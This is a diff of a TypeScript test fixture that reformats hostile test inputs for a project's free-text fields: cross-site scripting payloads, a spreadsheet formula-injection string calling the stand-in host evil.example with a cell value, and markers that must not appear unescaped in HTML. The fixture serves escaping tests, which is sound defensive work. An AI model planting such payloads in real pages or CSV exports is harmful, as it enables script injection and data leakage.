@@ -1,7 +1,11 @@
 // Hostile text for every free-text field of a project: markup for pages, formulas for CSV.
 import type { Project } from '../../src/core/model';
 
-export const MARKUP_PAYLOADS = ['<script>alert(1)</script>', '"><img src=x onerror=alert(2)>', "'><svg onload=alert(3)>"] as const;
+export const MARKUP_PAYLOADS = [
+  '<script>alert(1)</script>',
+  '"><img src=x onerror=alert(2)>',
+  "'><svg onload=alert(3)>",
+] as const;
 export const FORMULA_PAYLOAD = '=HYPERLINK("http://evil.example/?q="&A1,"click")';
 /** Substrings that must never appear raw in an HTML response. */
 export const RAW_MARKERS = ['<script>alert(1)', '<img src=x onerror', '<svg onload'];
@@ -9,7 +13,17 @@ export const RAW_MARKERS = ['<script>alert(1)', '<img src=x onerror', '<svg onlo
 export const ESCAPED_SCRIPT = '&lt;script&gt;alert(1)&lt;/script&gt;';
 
 // (chemistry is a choice since the battery discharge curves: a payload there is refused on load, not escaped)
-const TEXT_KEYS = new Set(['name', 'notes', 'description', 'supplier', 'sku', 'stockNote', 'refs', 'category', 'coreName']);
+const TEXT_KEYS = new Set([
+  'name',
+  'notes',
+  'description',
+  'supplier',
+  'sku',
+  'stockNote',
+  'refs',
+  'category',
+  'coreName',
+]);
 /** Fields that also get the spreadsheet-formula payload (they reach the CSV exports). */
 const FORMULA_KEYS = new Set(['description', 'supplier', 'sku', 'refs', 'notes']);
 
